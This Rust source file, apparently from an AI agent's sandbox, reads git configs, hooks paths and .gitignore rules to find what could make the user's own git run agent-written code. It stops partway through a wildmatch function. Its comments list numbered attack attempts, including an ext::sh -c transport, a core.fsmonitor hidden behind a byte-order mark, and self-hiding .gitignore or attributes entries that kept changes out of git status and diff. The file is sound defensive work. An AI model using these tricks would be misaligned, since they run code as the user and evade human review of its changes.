//! What in a repository makes the user's own git run something (the second re-attack of
//! 2026-12-05): the files its config includes, its hooks directory wherever `core.hooksPath`
//! puts it, the programs its config names (`core.fsmonitor`, filters, diff drivers, …), and the
//! submodules its index records, which `git status` at the root enters and whose config it reads.
//! Read here, without running git; `allow_list` decides what of it the agent may not write.

use std::path::{Path, PathBuf};

/// One variable of a git config file, as git's own parser reads it: section and key
/// lower-cased, a subsection as written (`[diff "x"]`; the old `[diff.x]` lower-cased).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub section: String,
    pub subsection: Option<String>,
    pub key: String,
    /// `None` for a bare key (`[core] bare`, which is `true`).
    pub value: Option<String>,
}

impl Entry {
    fn is(&self, section: &str, key: &str) -> bool {
        self.section == section && self.key == key
    }
}

/// A variable named as `git -c` and `GIT_CONFIG_KEY_<n>` name one (`section.key`,
/// `section.sub.section.key`: the subsection is everything between the first and the last dot).
pub fn entry_of_key(name: &str, value: Option<&str>) -> Option<Entry> {
    let (section, rest) = name.split_once('.')?;
    let (subsection, key) = match rest.rsplit_once('.') {
        Some((subsection, key)) => (Some(subsection.to_string()), key),
        None => (None, rest),
    };
    let (section, key) = (section.to_ascii_lowercase(), key.to_ascii_lowercase());
    Some(Entry { section, subsection, key, value: value.map(str::to_string) })
}

/// Every variable in a config file's text. What does not parse is skipped, not refused: git
/// would refuse the file, and then run nothing it names.
pub fn parse(text: &str) -> Vec<Entry> {
    let mut entries = Vec::new();
    // Git skips a byte-order mark at the start (the third re-attack: a config beginning with one
    // read as nothing here, and ran its fsmonitor there).
    let mut chars = text.strip_prefix('\u{feff}').unwrap_or(text).chars().peekable();
    let (mut section, mut subsection) = (String::new(), None);
    while let Some(&c) = chars.peek() {
        match c {
            '[' => {
                chars.next();
                (section, subsection) = section_header(&mut chars);
            }
            ';' | '#' => {
                chars.by_ref().take_while(|&c| c != '\n').for_each(drop);
            }
            c if c.is_whitespace() => {
                chars.next();
            }
            c if c.is_ascii_alphanumeric() => {
                let mut key = String::new();
                while let Some(&c) = chars.peek().filter(|c| c.is_ascii_alphanumeric() || **c == '-') {
                    key.push(c.to_ascii_lowercase());
                    chars.next();
                }
                while chars.next_if(|&c| c == ' ' || c == '\t').is_some() {}
                let value = chars.next_if_eq(&'=').map(|_| value(&mut chars));
                if !section.is_empty() {
                    entries.push(Entry { section: section.clone(), subsection: subsection.clone(), key, value });
                }
            }
            _ => {
                chars.by_ref().take_while(|&c| c != '\n').for_each(drop);
            }
        }
    }
    entries
}

/// A section header after its `[`, through its `]`, as git's parser reads one: `section "sub"`,
/// the subsection quoted, any character after a backslash taken as it is (`https:\/\/…` is
/// `https://…` to git: the twenty-ninth re-attack hid a token's URL from the rules that way); or
/// the old `section.sub`, lower-cased.
fn section_header(chars: &mut std::iter::Peekable<std::str::Chars>) -> (String, Option<String>) {
    let mut name = String::new();
    while let Some(c) = chars.next_if(|&c| c != ']' && !c.is_whitespace()) {
        name.push(c);
    }
    let mut subsection = None;
    // Any blank before the quote, a lone carriage return too, as git's `isspace` (the thirty-first
    // re-attack's C2: `[filter\r"x"]` was `filter.x` to git and a `[filter]` section here).
    while chars.next_if(|&c| c.is_whitespace() && c != '\n').is_some() {}
    if chars.next_if_eq(&'"').is_some() {
        let mut sub = String::new();
        while let Some(c) = chars.next_if(|&c| c != '\n') {
            match c {
                '"' => break,
                '\\' => sub.extend(chars.next_if(|&c| c != '\n')),
                c => sub.push(c),
            }
        }
        subsection = Some(sub);
    }
    while chars.next_if(|&c| c != '\n').is_some_and(|c| c != ']') {}
    // git joins a dotted name and a quoted subsection into one variable name (`[filter.x "y"]` is
    // `filter.x.y.*`: driver `x.y`, the thirty-fourth re-attack's F2), whose section is what comes
    // before its first dot.
    let name = name.to_ascii_lowercase();
    match (name.split_once('.'), subsection) {
        (Some((section, rest)), None) => (section.to_string(), Some(rest.to_string())),
        (Some((section, rest)), Some(sub)) => (section.to_string(), Some(format!("{rest}.{sub}"))),
        (None, subsection) => (name, subsection),
    }
}

/// A value after its `=`: quotes, escapes, comments and continued lines as git reads them.
fn value(chars: &mut std::iter::Peekable<std::str::Chars>) -> String {
    let (mut value, mut quoted, mut kept) = (String::new(), false, 0);
    while let Some(c) = chars.next() {
        match c {
            '\n' if !quoted => break,
            '"' => quoted = !quoted,
            ';' | '#' if !quoted => {
                chars.by_ref().take_while(|&c| c != '\n').for_each(drop);
                break;
            }
            '\\' => match chars.next() {
                Some('\n') => continue,
                Some('n') => value.push('\n'),
                Some('t') => value.push('\t'),
                Some('b') => {
                    value.pop();
                }
                Some(other) => value.push(other),
                None => break,
            },
            // Blanks outside quotes: none kept before the value, the trailing ones cut at the end.
            c if c.is_whitespace() && !quoted => {
                if !value.is_empty() {
                    value.push(c);
                }
                continue;
            }
            c => value.push(c),
        }
        kept = value.len();
    }
    value.truncate(kept);
    value
}

/// `core.hooksPath`, the last one set.
pub fn hooks_path(entries: &[Entry]) -> Option<String> {
    entries.iter().rev().find(|entry| entry.is("core", "hookspath")).and_then(|entry| entry.value.clone())
}

/// Whether git's SHA-256 object format is on (`extensions.objectFormat`): its index entries
/// hold 32-byte names instead of 20.
fn sha256(entries: &[Entry]) -> bool {
    entries.iter().any(|entry| entry.is("extensions", "objectformat") && entry.value.as_deref() == Some("sha256"))
}

/// The words of every command the config has git run ([`runs_a_program`]), as two lists: those
/// that are paths (hold a `/`: a program or script git would start as the user, so one inside a
/// writable tree is the agent's to rewrite), and the arguments after the first word that are
/// not (`python3 conv.py`: `conv.py` is a file of the worktree when one is there). A first word
/// without a `/` is found on `PATH`.
pub fn program_words(entries: &[Entry]) -> (Vec<String>, Vec<String>) {
    let (mut paths, mut words) = (Vec::new(), Vec::new());
    for entry in entries.iter().filter(|entry| runs_a_program(entry)) {
        let Some(value) = &entry.value else { continue };
        let command = value.strip_prefix('!').unwrap_or(value);
        let all = command.split_whitespace().map(|word| word.trim_matches(['"', '\'']));
        for (index, word) in all.enumerate().filter(|(_, word)| !word.is_empty() && !word.contains('$')) {
            if word.contains('/') {
                paths.push(word.to_string());
            } else if index > 0 {
                words.push(word.to_string());
            }
        }
    }
    (paths, words)
}

/// Whether a config holds nothing but what `git init`, `git clone` and `git submodule` write
/// (format, file modes, the worktree, remotes, branches, identity: [`WRITTEN_BY_GIT`]), each
/// [`harmless`] as well (a remote or a URL on this machine is not: F15): anything else in the
/// config of a repository the agent made — a program, a hooks path, an include, or a setting this
/// reading does not know — is taken to run something.
fn inert(entries: &[Entry]) -> bool {
    entries.iter().all(|entry| {
        let written = (entry.section.as_str(), entry.subsection.is_some(), entry.key.as_str());
        // `core.worktree` takes the worktree from elsewhere, so it is no harmless change to a
        // config; `git submodule` writes it.
        written == ("core", false, "worktree") || (WRITTEN_BY_GIT.contains(&written) && harmless(entry))
    })
}

/// The variables `git init`, `git clone` and `git submodule` write: section, whether it has a
/// subsection, key.
const WRITTEN_BY_GIT: [(&str, bool, &str); 21] = [
    ("core", false, "repositoryformatversion"),
    ("core", false, "filemode"),
    ("core", false, "bare"),
    ("core", false, "logallrefupdates"),
    ("core", false, "ignorecase"),
    ("core", false, "precomposeunicode"),
    ("core", false, "symlinks"),
    ("core", false, "autocrlf"),
    ("core", false, "eol"),
    ("remote", true, "url"),
    ("remote", true, "pushurl"),
    ("remote", true, "fetch"),
    ("branch", true, "remote"),
    ("branch", true, "merge"),
    ("branch", true, "rebase"),
    ("submodule", true, "url"),
    ("submodule", true, "active"),
    ("user", false, "name"),
    ("user", false, "email"),
    ("init", false, "defaultbranch"),
    ("extensions", false, "objectformat"),
];

/// The variables of a config that have the user's git run something ([`runs_a_program`]) or take
/// config or hooks from elsewhere (`core.hooksPath`, an include's path).
pub fn arming(entries: &[Entry]) -> Vec<Entry> {
    let takes_elsewhere = |entry: &Entry| {
        matches!((entry.section.as_str(), entry.key.as_str()), ("core", "hookspath" | "worktree" | "attributesfile"))
            || (matches!(entry.section.as_str(), "include" | "includeif") && entry.key == "path")
    };
    // A transport that runs a command (`ext::sh -c …`, which `protocol.ext.allow` lets git run at
    // the user's next fetch: the thirty-first re-attack's C2), in a URL or what rewrites one, and
    // whatever allows a protocol.
    let runs_by_url = |entry: &Entry| {
        let commands = |text: &str| {
            let lower = text.trim_start().to_ascii_lowercase();
            lower.starts_with("ext::") || lower.starts_with("fd::")
        };
        entry.section == "protocol"
            || (matches!(entry.section.as_str(), "remote" | "url" | "submodule")
                && (entry.value.as_deref().is_some_and(commands) || entry.subsection.as_deref().is_some_and(commands)))
    };
    entries
        .iter()
        .filter(|entry| runs_a_program(entry) || takes_elsewhere(entry) || runs_by_url(entry))
        .cloned()
        .collect()
}

/// What of a config's variables is not known to be harmless: [`arming`]'s, and every variable
/// not on [`harmless`]'s list. What a replaced config gained in W1's window (the moment between a
/// tool's rename over it and its rebind, when the agent may write it) is taken out unless it is
/// known to be harmless: a list of what runs something can only ever be as complete as the
/// reading of git's documentation behind it (the thirty-third re-attack's E1 found
/// `remote.<name>.vcs` missing), while a variable git adds tomorrow is taken out by this one.
pub fn not_known_harmless(entries: &[Entry]) -> Vec<Entry> {
    let arming = arming(entries);
    entries.iter().filter(|entry| arming.contains(entry) || !harmless(entry)).cloned().collect()
}

/// Whether `entry` is a variable that neither names a program, a script, a hook, a template, a
/// filter, a config to include, a URL to rewrite, a proxy or a place to send traces, nor loosens
/// how git checks a server (`http.sslVerify`): the settings users write into a repository's config
/// or their own while they work (`git push -u`, `git remote add`, `git config pull.rebase`, colours,
/// identity). A variable not named here is taken to be able to do one of those.
fn harmless(entry: &Entry) -> bool {
    let key = entry.key.as_str();
    match (entry.section.as_str(), entry.subsection.is_some()) {
        ("core", false) => matches!(
            key,
            "repositoryformatversion"
                | "filemode"
                | "bare"
                | "logallrefupdates"
                | "ignorecase"
                | "precomposeunicode"
                | "symlinks"
                | "autocrlf"
                | "eol"
                | "safecrlf"
                | "quotepath"
                | "abbrev"
                | "compression"
                | "loosecompression"
                | "bigfilethreshold"
                | "whitespace"
                | "checkstat"
                | "trustctime"
                | "untrackedcache"
                | "splitindex"
                | "commentchar"
                | "commentstring"
                | "sparsecheckout"
                | "sparsecheckoutcone"
                | "preloadindex"
                | "longpaths"
                | "warnambiguousrefs"
                | "excludesfile"
                | "multipackindex"
                | "commitgraph"
                | "deltabasecachelimit"
                | "packedgitlimit"
                | "packedgitwindowsize"
        ),
        // A URL to a server: one to a repository on this machine (`/tmp/x`, `../x`, `file://`) has the
        // user's push run that repository's hooks (the thirty-fourth re-attack's F15).
        ("remote", true) if matches!(key, "url" | "pushurl") => entry.value.as_deref().is_some_and(names_a_server),
        ("remote", true) => matches!(
            key,
            "fetch"
                | "push"
                | "mirror"
                | "skipdefaultupdate"
                | "skipfetchall"
                | "tagopt"
                | "prune"
                | "prunetags"
                | "promisor"
                | "partialclonefilter"
        ),
        // A remote by its name: git takes a path there for a remote on this machine, whose hooks
        // the user's push runs (the thirty-fifth re-attack's G2).
        ("remote", false) => key == "pushdefault" && entry.value.as_deref().is_some_and(names_a_remote),
        ("branch", true) if matches!(key, "remote" | "pushremote") => {
            entry.value.as_deref().is_some_and(names_a_remote)
        }
        ("branch", true) => matches!(key, "merge" | "rebase" | "description"),
        ("branch", false) => matches!(key, "autosetupmerge" | "autosetuprebase" | "sort"),
        ("submodule", true) if key == "url" => entry.value.as_deref().is_some_and(names_a_server),
        ("submodule", true) => {
            matches!(key, "active" | "branch" | "fetchrecursesubmodules" | "ignore" | "shallow")
                || (key == "update" && entry.value.as_deref().is_some_and(|value| !value.starts_with('!')))
        }
        ("submodule", false) => matches!(key, "recurse" | "fetchjobs" | "active" | "propagatebranches"),
        ("user" | "author" | "committer", false) => matches!(key, "name" | "email" | "signingkey" | "useconfigonly"),
        ("pull", false) => matches!(key, "rebase" | "ff"),
        ("push", false) => matches!(key, "default" | "autosetupremote" | "followtags" | "usebitmaps" | "negotiate"),
        ("fetch", false) => matches!(
            key,
            "prune"
                | "prunetags"
                | "writecommitgraph"
                | "parallel"
                | "showforcedupdates"
                | "output"
                | "negotiationalgorithm"
        ),
        ("merge", false) => matches!(
            key,
            "ff" | "conflictstyle"
                | "log"
                | "stat"
                | "autostash"
                | "renormalize"
                | "directoryrenames"
                | "renames"
                | "renamelimit"
        ),
        ("merge", true) => matches!(key, "name" | "recursive"),
        ("rebase", false) => matches!(
            key,
            "autosquash"
                | "autostash"
                | "updaterefs"
                | "stat"
                | "abbreviatecommands"
                | "missingcommitscheck"
                | "forkpoint"
                | "reschedulefailedexec"
        ),
        ("diff", false) => key != "external",
        ("diff", true) => {
            matches!(key, "xfuncname" | "funcname" | "wordregex" | "binary" | "cachetextconv" | "algorithm")
        }
        ("commit", false) => matches!(key, "gpgsign" | "verbose" | "cleanup" | "status"),
        ("tag", false) => matches!(key, "sort" | "gpgsign" | "forcesignannotated"),
        ("init", false) => key == "defaultbranch",
        ("extensions", false) => matches!(key, "objectformat" | "refstorage"),
        ("http", false) => matches!(key, "postbuffer" | "version"),
        ("checkout", false) if key == "defaultremote" => entry.value.as_deref().is_some_and(names_a_remote),
        ("checkout", false) => matches!(key, "workers" | "thresholdforparallelism"),
        ("clone", false) if key == "defaultremotename" => entry.value.as_deref().is_some_and(names_a_remote),
        ("clone", false) => key == "rejectshallow",
        // Not `gc.recentObjectsHook`, a program git runs at every automatic gc (F16).
        ("gc", _) => matches!(
            key,
            "auto"
                | "autopacklimit"
                | "autodetach"
                | "aggressivedepth"
                | "aggressivewindow"
                | "bigpackthreshold"
                | "cruftpacks"
                | "maxcruftsize"
                | "logexpiry"
                | "packrefs"
                | "pruneexpire"
                | "worktreepruneexpire"
                | "reflogexpire"
                | "reflogexpireunreachable"
                | "rerereresolved"
                | "rerereunresolved"
                | "writecommitgraph"
        ),
        // Whole sections of display, housekeeping and safety settings: none names anything to run
        // or read as code.
        (
            "color" | "column" | "advice" | "status" | "log" | "pretty" | "format" | "maintenance" | "pack" | "index"
            | "feature" | "rerere" | "blame" | "grep" | "notes" | "versionsort" | "stash" | "am" | "apply" | "worktree"
            | "i18n" | "mailmap" | "transfer",
            _,
        ) => true,
        _ => false,
    }
}

/// Whether a value where git takes a remote names one (`origin`), or this repository (`.`), not a
/// path to a repository on this machine (`../x`, `/tmp/x.git`, `node_modules/.cache/x.git`).
fn names_a_remote(value: &str) -> bool {
    value == "." || (!value.is_empty() && !value.starts_with('.') && !value.contains(['/', '\\', ':']))
}

/// Whether a remote's URL names a server (`https://`, `ssh://`, `git://`, scp's `host:path`), not a
/// repository on this machine, whose hooks the user's push would run.
fn names_a_server(url: &str) -> bool {
    let url = url.trim();
    let lower = url.to_ascii_lowercase();
    let schemes = ["https://", "http://", "ssh://", "git://", "git+ssh://", "ssh+git://"];
    if schemes.iter().any(|scheme| lower.starts_with(scheme)) {
        return true;
    }
    // scp's form: a host before the first `:`, with no `/` before it, as git tells it from a path.
    match url.split_once(':') {
        Some((host, _)) => !host.is_empty() && !host.contains('/') && !url.contains("://"),
        None => false,
    }
}

/// Entries written as a config file git reads the same, after `header` (comment lines): a section
/// header where the section changes, every value quoted with its quotes, backslashes and line
/// ends escaped.
pub fn written(header: &str, entries: &[Entry]) -> String {
    let quote = |text: &str| {
        let mut quoted = String::with_capacity(text.len() + 2);
        quoted.push('"');
        for c in text.chars() {
            match c {
                '"' => quoted.push_str("\\\""),
                '\\' => quoted.push_str("\\\\"),
                '\n' => quoted.push_str("\\n"),
                '\t' => quoted.push_str("\\t"),
                c => quoted.push(c),
            }
        }
        quoted.push('"');
        quoted
    };
    let mut text = String::from(header);
    let mut current: Option<(&str, Option<&str>)> = None;
    for entry in entries {
        let section = (entry.section.as_str(), entry.subsection.as_deref());
        if current != Some(section) {
            match section.1 {
                Some(sub) => text.push_str(&format!("[{} {}]\n", section.0, quote(sub))),
                None => text.push_str(&format!("[{}]\n", section.0)),
            }
            current = Some(section);
        }
        match &entry.value {
            Some(value) => text.push_str(&format!("\t{} = {}\n", entry.key, quote(value))),
            None => text.push_str(&format!("\t{}\n", entry.key)),
        }
    }
    text
}

/// The state files of a rebase or a cherry-pick left in progress that name the merge strategy
/// `--continue` runs (`sequencer/opts` as git config: `strategy = …`).
pub const STRATEGY_FILES: [&str; 3] = ["rebase-merge/strategy", "rebase-apply/strategy", "sequencer/opts"];

/// Whether `file` (one of [`STRATEGY_FILES`]) names a strategy by a path: git runs
/// `git-merge-<strategy>`, found in `PATH` unless the name holds a `/`, when it is a program of
/// the worktree's. Read through a link, as git reads it.
pub fn names_a_strategy_path(file: &Path) -> bool {
    // Git's are a few lines: one larger than this is not git's (a line after 4 MiB of padding went
    // unread: the forty-second re-attack's N6), and is taken for one that names a path.
    const MAX_STRATEGY_BYTES: u64 = 1024 * 1024;
    let Ok(text) = read_capped(file, true, MAX_STRATEGY_BYTES + 1) else { return false };
    if text.len() as u64 > MAX_STRATEGY_BYTES {
        return true;
    }
    let text = String::from_utf8_lossy(&text);
    if !file.ends_with("sequencer/opts") {
        return text.contains('/');
    }
    // Read as git reads a config (a value continued over lines, a key on its section's line: the
    // forty-first re-attack's M3), and line by line as before.
    let parsed = parse(&text).iter().any(|entry| {
        entry.key.eq_ignore_ascii_case("strategy") && entry.value.as_deref().is_some_and(|value| value.contains('/'))
    });
    parsed
        || text.lines().any(|line| {
            let (key, value) = line.split_once('=').unwrap_or((line, ""));
            key.trim().eq_ignore_ascii_case("strategy") && value.contains('/')
        })
}

/// The todo list of a rebase in progress in a git directory.
pub const REBASE_TODO: &str = "rebase-merge/git-rebase-todo";

/// The repository's own ignore patterns, beside the worktree's `.gitignore` files but never seen
/// in `git status` (the fortieth re-attack's L8 hid a new `tests/conftest.py` there).
pub fn info_exclude(git_dir: &Path) -> PathBuf {
    shared_dir(git_dir).join("info/exclude")
}

/// The repository's own attributes, beside the worktree's `.gitattributes` files but never seen
/// in `git status` (the forty-seventh re-attack's A1: `-diff` there hid a changed line from `git
/// diff`).
pub fn info_attributes(git_dir: &Path) -> PathBuf {
    shared_dir(git_dir).join("info/attributes")
}

/// Whether a line of a `.gitignore` ignores that `.gitignore` itself, as git reads the line and
/// matches it (`dir.c`'s `add_patterns_from_buffer`, `parse_path_pattern`, `match_basename` and
/// `match_pathname`, over [`wildmatch`]): a byte-order mark before it and a carriage return after
/// it dropped, cut at a NUL, trailing blanks trimmed unless escaped; not a comment, a `!`
/// negation or a directory's `…/`; a pattern without a `/` held against the name, one with a `/`
/// against the path below the file's directory, its literal start first (so `.git**/ignore` is
/// `**/ignore` against `ignore`). The forty-fourth re-attack's Q1–Q3 found a byte-order mark, a
/// NUL and patterns holding a `/` (`[!/]*`) that git read as hiding it and a simpler reading did
/// not. A new one that does hides itself, and what it lists, from `git status`.
pub fn hides_a_gitignore(line: &str) -> bool {
    let line = line.strip_prefix('\u{feff}').unwrap_or(line).as_bytes();
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    ignore_pattern(line).is_some_and(|(pattern, negated, dir_only)| {
        // With `core.ignorecase` (a repository on a case-insensitive file system) git folds case
        // as its `wildmatch` does (the forty-ninth re-attack's C1: `.GitIgnore`; the fiftieth's
        // C2: `*[[:upper:]]`, `*[D-a]`): a pattern that matches either way.
        !negated
            && !dir_only
            && [false, true].into_iter().any(|fold| pattern_matches(pattern, b".gitignore", b".gitignore", fold))
    })
}

/// An ignore file's lines as git splits them (`add_patterns_from_buffer`): a byte-order mark
/// dropped at the file's start only, each line up to its `\n` with one `\r` before it dropped,
/// the bytes as they are (the forty-ninth re-attack's B1: a mark on a later line, `\r\r\n` and
/// bytes that are not UTF-8 were read otherwise).
fn ignore_file_lines(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    bytes.split(|&byte| byte == b'\n').map(|line| line.strip_suffix(b"\r").unwrap_or(line))
}

/// A line of an ignore file as git reads it (`parse_path_pattern`), its line end already
/// dropped: cut at a NUL, trailing blanks trimmed unless escaped; its pattern, whether it is a
/// `!` negation and whether it names directories only (`…/`, the slash dropped); `None` for a
/// blank line or a comment.
fn ignore_pattern(line: &[u8]) -> Option<(&[u8], bool, bool)> {
    let mut pattern = line.split(|&byte| byte == 0).next().unwrap_or_default();
    // Trailing blanks go, an escaped one (`\ `) stays.
    while let Some(rest) = pattern.strip_suffix(b" ") {
        if rest.ends_with(b"\\") && rest.iter().rev().take_while(|&&byte| byte == b'\\').count() % 2 == 1 {
            break;
        }
        pattern = rest;
    }
    if pattern.is_empty() || pattern[0] == b'#' {
        return None;
    }
    let negated = pattern[0] == b'!';
    if negated {
        pattern = &pattern[1..];
    }
    let dir_only = pattern.ends_with(b"/");
    if dir_only {
        pattern = &pattern[..pattern.len() - 1];
    }
    (!pattern.is_empty()).then_some((pattern, negated, dir_only))
}

/// Whether an ignore file's `pattern` matches the entry `path` below the file's directory, whose
/// name is `name` (`match_basename`, `match_pathname`).
fn pattern_matches(pattern: &[u8], path: &[u8], name: &[u8], fold: bool) -> bool {
    let same = |a: &[u8], b: &[u8]| if fold { a.eq_ignore_ascii_case(b) } else { a == b };
    let literal = pattern.iter().take_while(|&&byte| !matches!(byte, b'*' | b'?' | b'[' | b'\\')).count();
    if !pattern.contains(&b'/') {
        // `match_basename`: a literal compared whole; `*literal` by its end; else without
        // `WM_PATHNAME`.
        if literal == pattern.len() {
            return same(pattern, name);
        }
        let ends_with =
            pattern[0] == b'*' && !pattern[1..].iter().any(|byte| matches!(byte, b'*' | b'?' | b'[' | b'\\'));
        if ends_with {
            return name.len() >= pattern.len() - 1 && same(&name[name.len() + 1 - pattern.len()..], &pattern[1..]);
        }
        return wildmatch(pattern, name, false, fold) == Wild::Match;
    }
    // `match_pathname`: anchored at the file's directory, its literal start compared first.
    let (pattern, literal) = match pattern.strip_prefix(b"/") {
        Some(rest) => (rest, literal.saturating_sub(1)),
        None => (pattern, literal),
    };
    if literal > path.len() || !same(&pattern[..literal], &path[..literal]) {
        return false;
    }
    let (pattern, rest) = (&pattern[literal..], &path[literal..]);
    if pattern.is_empty() {
        return rest.is_empty();
    }
    wildmatch(pattern, rest, true, fold) == Wild::Match
}

/// Whether the `.gitignore` files from `root` down to `dir`'s parent surely make git ignore `dir`
/// (below `root`) or a directory it lies in, read as they are now. Said only where no doubt is
/// left: any of those files changed since `since` (nanoseconds, file times), holding a negation
/// or unreadable makes it `false`, and the repository's other ignore lists are not read (they
/// could only ignore more).
pub fn surely_ignored(root: &Path, dir: &Path, since: i128) -> bool {
    use std::os::unix::ffi::OsStrExt as _;
    let Ok(below) = dir.strip_prefix(root) else { return false };
    let components: Vec<&std::ffi::OsStr> = below.iter().collect();
    let parts: Vec<&[u8]> = components.iter().map(|part| part.as_bytes()).collect();
    // Another repository on the way (a linked worktree, a submodule, a nested clone) has ignore
    // rules of its own, which the outer ones do not reach (the forty-ninth re-attack's G3: an
    // outer `.worktrees/` kept a worktree's own self-hiding `.gitignore` from being looked at).
    let mut on_the_way = root.to_path_buf();
    for part in &components {
        on_the_way.push(part);
        if std::fs::symlink_metadata(on_the_way.join(".git")).is_ok() {
            return false;
        }
    }
    // The ignore file of each directory from `root` to `dir`'s parent, and the directories below it.
    for base in 0..parts.len() {
        let file = components[..base].iter().fold(root.to_path_buf(), |path, part| path.join(part)).join(".gitignore");
        let bytes = match read_capped(&file, false, MAX_IGNORE_FILE_BYTES + 1) {
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => continue,
            Err(_) => return false,
            Ok(bytes) => bytes,
        };
        if changed_since(&file, since) || bytes.len() as u64 > MAX_IGNORE_FILE_BYTES {
            return false;
        }
        let patterns: Vec<(&[u8], bool, bool)> = ignore_file_lines(&bytes).filter_map(ignore_pattern).collect();
        if patterns.iter().any(|(_, negated, _)| *negated) {
            return false;
        }
        for end in base + 1..=parts.len() {
            let path = parts[base..end].join(&b'/');
            // Matched with and without folding case, whichever `core.ignorecase` says.
            let matches = |pattern: &[u8]| {
                [false, true].into_iter().all(|fold| pattern_matches(pattern, &path, parts[end - 1], fold))
            };
            if patterns.iter().any(|(pattern, _, _)| matches(pattern)) {
                return true;
            }
        }
    }
    false
}

/// Whether `path`'s status last changed at `since` (nanoseconds, as file times read it) or after:
/// no process sets a status-change time back, so an entry changed in the session says so.
pub fn changed_since(path: &Path, since: i128) -> bool {
    use std::os::unix::fs::MetadataExt as _;
    std::fs::symlink_metadata(path)
        .is_ok_and(|metadata| i128::from(metadata.ctime()) * 1_000_000_000 + i128::from(metadata.ctime_nsec()) >= since)
}

/// The most of a `.gitignore` [`surely_ignored`] reads; past it, no doubt is left out.
const MAX_IGNORE_FILE_BYTES: u64 = 1024 * 1024;

/// What git's `dowild` answers: a match, none, or none for any longer run of a `*` before it
/// (`AbortAll`) or of a `*` short of a `**` (`AbortToStarStar`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Wild {
    Match,
    NoMatch,
    AbortAll,
    AbortToStarStar,
}

/// git's `wildmatch` (`wildmatch.c`'s `dowild`), case-sensitive: `*` any run (not across a `/`
/// with `pathname`), `**` across directories where a `/` or the ends bound it, `?` one
/// character, `[…]` a class (`!` or `^` negating, ranges, `\` escapes, POSIX `[:…:]` classes),
/// `\` the next character as itself.
fn wildmatch(p: &[u8], text: &[u8], pathname: bool, fold: bool) -> Wild {
    // With `fold` (`WM_CASEFOLD`), the text's character and a literal of the pattern are taken
    // lowercase; an escaped one and those of a class are not.
    let folded = |byte: u8| if fold { byte.to_ascii_lowercase() } else { byte };
    let (mut pi, mut ti) = (0, 0);
    while pi < p.len() {
        let t_ch = folded(text.get(ti).copied().unwrap_or(0));
        if ti >= text.len() && p[pi] != b'*' {
            return Wild::AbortAll;
        }
        match p[pi] {
            b'\\' => {
                pi += 1;
                if p.get(pi).copied().unwrap_or(0) != t_ch {
                    return Wild::NoMatch;
                }
            }
            b'?' => {
                if pathname && t_ch == b'/' {
                    return Wild::NoMatch;
                }
            }
            b'*' => {
                pi += 1;
                let match_slash = if p.get(pi) == Some(&b'*') {
                    let before = pi.checked_sub(2);
                    while p.get(pi) == Some(&b'*') {
                        pi += 1;
                    }
                    let rest = &p[pi..];
                    if !pathname {
                        true
                    } else if before.is_none_or(|before| p[before] == b'/')
                        && (rest.is_empty() || rest[0] == b'/' || rest.starts_with(b"\\/"))
                    {
                        if rest.first() == Some(&b'/')
                            && wildmatch(&rest[1..], &text[ti..], pathname, fold) == Wild::Match
                        {
                            return Wild::Match;
                        }
                        true
                    } else {
                        false
                    }
                } else {
                    !pathname
                };
                if pi >= p.len() {
                    return if !match_slash && text[ti..].contains(&b'/') { Wild::NoMatch } else { Wild::Match };
                }
                if !match_slash && p[pi] == b'/' {
                    // One `*` then a `/`: the rest of this directory's name.
                    let Some(slash) = text[ti..].iter().position(|&byte| byte == b'/') else { return Wild::NoMatch };
                    ti += slash + 1;
                    pi += 1;
                    continue;
                }
                while ti < text.len() {
                    if !matches!(p[pi], b'*' | b'?' | b'[' | b'\\') {
                        // A literal next: the run up to where it appears belongs to the `*`.
                        let literal = folded(p[pi]);
                        while ti < text.len() && (match_slash || text[ti] != b'/') && folded(text[ti]) != literal {
                            ti += 1;
                        }
                        if text.get(ti).map(|&byte| folded(byte)) != Some(literal) {
                            return if match_slash { Wild::AbortAll } else { Wild::AbortToStarStar };
                        }
                    }
                    let matched = wildmatch(&p[pi..], &text[ti..], pathname, fold);
                    if matched != Wild::NoMatch {
                        if !match_slash || matched != Wild::AbortToStarStar {
                            return matched;
                        }
                    } else if !match_slash && text[ti] == b'/' {
                        return Wild::AbortToStarStar;
                    }
                    ti += 1;
                }
                return Wild::AbortAll;
            }
            b'[' => {
                pi += 1;
                let mut p_ch = p.get(pi).copied().unwrap_or(0);
                let negated = matches!(p_ch, b'!' | b'^');
                if negated {
                    pi += 1;
                    p_ch = p.get(pi).copied().unwrap_or(0);
                }
                let (mut prev_ch, mut matched) = (0, false);
                loop {
                    if pi >= p.len() {
                        return Wild::AbortAll;
                    }
                    if p_ch == b'\\' {
                        pi += 1;
                        let Some(&escaped) = p.get(pi) else { return Wild::AbortAll };
                        p_ch = escaped;
                        matched |= t_ch == p_ch;
                    } else if p_ch == b'-' && prev_ch != 0 && p.get(pi + 1).is_some_and(|&next| next != b']') {
                        pi += 1;
                        p_ch = p[pi];
                        if p_ch == b'\\' {
                            pi += 1;
                            let Some(&escaped) = p.get(pi) else { return Wild::AbortAll };
                            p_ch = escaped;
                        }
                        matched |= (prev_ch..=p_ch).contains(&t_ch)
                            || fold
                                && t_ch.is_ascii_lowercase()
                                && (prev_ch..=p_ch).contains(&t_ch.to_ascii_uppercase());
                        p_ch = 0;
                    } else if p_ch == b'[' && p.get(pi + 1) == Some(&b':') {
                        let start = pi + 2;
                        let Some(end) = p[start..].iter().position(|&byte| byte == b']').map(|at| start + at) else {
                            return Wild::AbortAll;
                        };
                        if end < start + 1 || p[end - 1] != b':' {
                            // No `:]`: a `[` of the set.
                            pi = start - 2;
                            p_ch = b'[';
                            matched |= t_ch == b'[';
                        } else {
                            let class: fn(&u8) -> bool = match &p[start..end - 1] {
                                b"alnum" => u8::is_ascii_alphanumeric,
                                b"alpha" => u8::is_ascii_alphabetic,
                                b"blank" => |byte| matches!(byte, b' ' | b'\t'),
                                b"cntrl" => u8::is_ascii_control,
                                b"digit" => u8::is_ascii_digit,
                                b"graph" => u8::is_ascii_graphic,
                                b"lower" => u8::is_ascii_lowercase,
                                b"print" => |byte| byte.is_ascii_graphic() || *byte == b' ',
                                b"punct" => u8::is_ascii_punctuation,
                                b"space" => |byte| matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c),
                                b"upper" => u8::is_ascii_uppercase,
                                b"xdigit" => u8::is_ascii_hexdigit,
